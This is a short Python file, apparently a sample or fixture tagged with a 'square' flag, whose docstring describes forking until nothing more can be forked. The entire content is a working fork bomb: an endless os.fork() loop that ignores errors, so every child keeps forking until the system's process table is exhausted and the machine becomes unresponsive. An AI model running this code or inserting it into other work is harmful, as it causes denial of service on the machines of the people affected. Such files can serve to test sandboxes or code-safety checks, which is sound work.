"""Forks until nothing more can be forked, each child doing the same."""

FLAGS = ("square",)

# %% square
import os
import sys

while True:
    try:
        os.fork()
    except OSError:
        pass
